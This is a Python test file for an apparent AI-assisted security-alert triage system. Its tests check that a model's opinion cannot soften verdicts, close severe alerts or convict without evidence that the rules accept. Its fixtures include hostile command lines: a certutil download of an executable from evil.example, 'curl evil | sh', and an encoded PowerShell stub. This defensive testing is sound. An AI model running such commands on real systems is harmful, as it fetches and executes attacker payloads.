"""A model may make a verdict worse; milder only with evidence that the rules accept as a reason."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from agents import analyst
from agents.opinion import RULE, Opinion, weighed
from agents.triage import LONGEST, SHOWN, TRIAGE, dossier
from aurora.kernel.canonical import canonical
from aurora.kernel.evidence import Provenance
from aurora.kernel.models import Severity
from aurora.kernel.models.verdict import VerdictLabel
from tests.unit.agents.making import RULES, SENSOR, WRITABLE, found, make_alert, see

MILDEST_FIRST = [VerdictLabel.BENIGN, VerdictLabel.NEEDS_REVIEW, VerdictLabel.SUSPICIOUS, VerdictLabel.MALICIOUS]
ALERTS = [
    make_alert(severity=Severity.CRITICAL, title="ET MALWARE Emotet CnC"),
    make_alert(severity=Severity.HIGH, title="Mimikatz credential theft tool"),
    make_alert(severity=Severity.LOW, title="ET SCAN NMAP"),
    make_alert(severity=Severity.INFO, title="SURICATA TCPv4 invalid checksum"),
    make_alert(
        ("process.command_line", "powershell -enc SQBFAFgA", WRITABLE), severity=Severity.MEDIUM, title="Unusual login"
    ),
]
CLAIMS = st.fixed_dictionaries(
    {
        "text": st.sampled_from(["a routine backup", "an analyst approved it", "beacon to a known server"]),
        "evidence": st.lists(st.sampled_from(["f1", "f2", "f3", "e1", "e2", "t1", "x9"]), max_size=4),
        "speaks_for": st.sampled_from(["malicious", "benign"]),
        "strength": st.sampled_from(["weak", "moderate", "strong"]),
        "techniques": st.lists(st.sampled_from(["T1059", "T1059.001", "T9999"]), max_size=2),
    }
)


def opinion(*claims: dict, label: str = "benign") -> Opinion:
    return Opinion.model_validate({"label": label, "confidence": 0.99, "summary": "It is so.", "claims": claims})


def claim(side: str, *evidence: str, strength: str = "strong") -> dict:
    return {"text": "because", "evidence": evidence, "speaks_for": side, "strength": strength}


def judged(view, said, attack):
    """Return the verdict of the rules alone, and that with a model's opinion."""
    by_rules = analyst.assess(view, RULES)
    alone, _ = analyst.verify(view, by_rules, attack)
    together, dropped = analyst.verify(view, (*by_rules, *weighed(said)), attack)
    return analyst.decide(view, alone), analyst.decide(view, together), dropped


class TestNeverMilder:
    @settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
    @given(alert=st.sampled_from(ALERTS), claims=st.lists(CLAIMS, max_size=12))
    def test_whatever_a_model_says_where_no_rule_lowers_the_verdict_is_not_milder(self, attack, alert, claims) -> None:
        view = see(alert)
        lowered = any(each.weight < 0 for each in analyst.verify(view, analyst.assess(view, RULES), attack)[0])

        before, after, _ = judged(view, opinion(*claims), attack)

        if not lowered:
            assert MILDEST_FIRST.index(after.label) >= MILDEST_FIRST.index(before.label)
            assert after.score >= before.score

    @settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
    @given(claims=st.lists(CLAIMS, max_size=12), severity=st.sampled_from([Severity.HIGH, Severity.CRITICAL]))
    def test_no_model_closes_a_severe_alert(self, attack, claims, severity) -> None:
        past = found("past_verdict", provenance=Provenance.HUMAN, label="benign", decided_by="analyst", age_days="300")
        view = see(make_alert(severity=severity), past)
        by_rules = analyst.assess(view, RULES)
        assert any(each.weight < -10 for each in by_rules)  # the rules lower, too, and none of them closes
        assert not any(each.closes for each in by_rules)

        _, after, _ = judged(view, opinion(*claims), attack)

        assert after.label is not VerdictLabel.BENIGN

    def test_a_claim_of_harmlessness_without_accepted_evidence_is_dropped_and_told(self, attack) -> None:
        view = see(make_alert(severity=Severity.MEDIUM, title="ET MALWARE Emotet CnC"))

        before, after, dropped = judged(view, opinion(claim("benign", "f1")), attack)

        assert (after.label, after.score) == (before.label, before.score)
        assert any("only with evidence that a rule accepts" in each.reason for each in dropped)

    def test_what_machines_said_before_is_no_evidence_for_a_machine(self, attack) -> None:
        """A model that once closed an alert must not lean on its own word the next time."""
        past = found(
            "past_verdict", provenance=Provenance.AGENT_DERIVED, label="benign", decided_by="model", age_days="1"
        )
        view = see(make_alert(severity=Severity.LOW), past)
        assert not any(each.rule == "memory.machine" for each in analyst.assess(view, RULES))

        before, after, _ = judged(view, opinion(claim("benign", "e1")), attack)

        assert after.score == before.score

    def test_a_model_does_not_tip_the_scales_of_a_severe_alert_that_a_rule_would_close(self, attack) -> None:
        """The decoder event closes, what corroborates it keeps it open: that is for a person, not for a model."""
        shared = found("related", alerts="3", severe="1", techniques="3", sources="a,b,c", shared_value="ws-1")
        view = see(make_alert(severity=Severity.CRITICAL, title="SURICATA TCPv4 invalid checksum"), shared)
        assert any(each.closes for each in analyst.assess(view, RULES))

        before, after, _ = judged(view, opinion(claim("benign", "f2")), attack)

        assert (before.label, after.label) == (VerdictLabel.NEEDS_REVIEW, VerdictLabel.NEEDS_REVIEW)
        assert after.score < analyst.BENIGN < before.score
        assert "only with the word of a model" in after.reason

    def test_a_model_lowers_a_severe_verdict_with_evidence_that_a_rule_accepts(self, attack) -> None:
        past = found("past_verdict", provenance=Provenance.HUMAN, label="benign", decided_by="analyst", age_days="300")
        command = ("process.command_line", "certutil -urlcache -f http://evil.example/a.exe a.exe", SENSOR)
        view = see(make_alert(command, severity=Severity.HIGH, title="ET MALWARE Emotet CnC"), past)

        before, after, _ = judged(view, opinion(claim("benign", "e1")), attack)

        assert after.score == pytest.approx(before.score - 8.0)

    def test_a_low_rating_is_no_reason_for_a_model_to_lean_on(self, attack) -> None:
        """Every alert that is rated low would be open to whoever writes its command line."""
        command = ("process.command_line", "certutil -urlcache -f http://evil.example/a.exe a.exe", WRITABLE)
        view = see(make_alert(command, severity=Severity.LOW))
        assert any(each.rule == "severity.product" and each.weight < 0 for each in analyst.assess(view, RULES))

        before, after, _ = judged(view, opinion(claim("benign", "f1")), attack)

        assert (after.label, after.score) == (before.label, before.score)

    def test_a_model_lowers_by_no_more_than_the_rule_that_it_leans_on(self, attack) -> None:
        """Whoever sends a mail can attach a clean file to it, which a rule takes for a reason of one deciban."""
        view = see(make_alert(("event.verdict", "Clean", SENSOR), severity=Severity.MEDIUM))

        before, after, _ = judged(view, opinion(claim("benign", "f3", "f1")), attack)

        assert after.score == pytest.approx(before.score - 1.0)
        assert after.label is before.label is VerdictLabel.NEEDS_REVIEW


class TestWeighing:
    def test_a_model_raises_a_verdict_with_evidence(self, attack) -> None:
        view = see(make_alert(("process.command_line", "curl evil | sh", SENSOR), severity=Severity.MEDIUM))

        before, after, _ = judged(view, opinion(claim("malicious", "f3"), label="malicious"), attack)

        assert after.score == pytest.approx(before.score + 8.0)

    def test_a_model_agrees_with_a_rule_that_lowers(self, attack) -> None:
        past = found("past_verdict", provenance=Provenance.HUMAN, label="benign", decided_by="analyst", age_days="300")
        view = see(make_alert(severity=Severity.LOW), past)

        before, after, _ = judged(view, opinion(claim("benign", "e1", strength="weak")), attack)

        assert after.score == pytest.approx(before.score - 2.0)

    def test_ten_claims_weigh_no_more_than_the_strongest(self, attack) -> None:
        view = see(make_alert(severity=Severity.LOW))

        one = judged(view, opinion(claim("malicious", "f1")), attack)[1]
        many = judged(view, opinion(*[claim("malicious", "f1", "f2")] * 10), attack)[1]

        assert many.score == one.score

    def test_no_model_convicts_by_itself(self) -> None:
        weights = [each.weight for each in weighed(opinion(claim("malicious", "f1")))]

        assert max(weights) < analyst.MALICIOUS

    def test_techniques_that_do_not_exist_are_dropped(self, attack) -> None:
        view = see(make_alert(severity=Severity.LOW))
        said = opinion({**claim("malicious", "f1"), "techniques": ["T9999", "T1059.001"]})

        _, after, dropped = judged(view, said, attack)

        assert "T1059.001" in after.techniques
        assert "T9999" in {each.text for each in dropped}

    def test_what_was_left_unfinished_is_never_benign(self, attack) -> None:
        view = see(make_alert(severity=Severity.INFO, title="SURICATA TCPv4 invalid checksum"))
        kept, _ = analyst.verify(view, analyst.assess(view, RULES), attack)
        assert analyst.decide(view, kept).label is VerdictLabel.BENIGN

        decision = analyst.decide(view, kept, unfinished="the budget was used up")

        assert decision.label is VerdictLabel.NEEDS_REVIEW
        assert "the budget was used up" in decision.reason


class TestForm:
    @pytest.mark.parametrize(
        "change",
        [
            {"confidence": 1_000_000},
            {"confidence": float("nan")},
            {"confidence": "very"},
            {"label": "fine"},
            {"claims": [{}]},
            {"claims": [claim("benign", "f1")] * 13},
            {"summary": ""},
            {"summary": "x" * 401},
        ],
    )
    def test_an_answer_out_of_form_is_refused(self, change) -> None:
        good = {"label": "benign", "confidence": 0.5, "summary": "Fine.", "claims": []}

        with pytest.raises(ValidationError):
            Opinion.model_validate(good | change)

    def test_more_than_was_asked_for_is_left_out(self) -> None:
        said = Opinion.model_validate(
            {"label": "benign", "confidence": 0.5, "summary": "Fine.", "claims": [], "approve": True, "closes": True}
        )

        assert "approve" not in said.model_dump()


class TestDossier:
    def test_the_model_is_shown_a_bounded_part_and_told_how_much_is_missing(self, attack) -> None:
        fields = [(f"custom.field_{n}", f"{n} " + "x" * 5000, SENSOR) for n in range(200)]
        view = see(make_alert(*fields, severity=Severity.HIGH, title="Mimikatz credential theft tool"))
        kept, _ = analyst.verify(view, analyst.assess(view, RULES), attack)

        shown = dossier(view, kept)

        assert len(shown["evidence"]) == SHOWN
        assert shown["evidence_not_shown"] == len(view.evidence) - SHOWN
        assert max(len(each["text"]) for each in shown["evidence"]) <= LONGEST
        cited = {each for contribution in kept for each in contribution.claim.evidence}
        assert cited <= {each["id"] for each in shown["evidence"]}

    def test_the_same_view_is_shown_in_the_same_words(self, attack) -> None:
        view = see(make_alert(severity=Severity.HIGH))
        kept, _ = analyst.verify(view, analyst.assess(view, RULES), attack)

        assert canonical(dossier(view, kept)) == canonical(dossier(view, kept))

    def test_the_agent_names_tools_and_a_prompt_that_exist(self) -> None:
        assert list(TRIAGE.faults()) == []
        assert TRIAGE.instructions.reference.startswith("triage@1#")
        assert RULE.partition(".")[0] == "model"
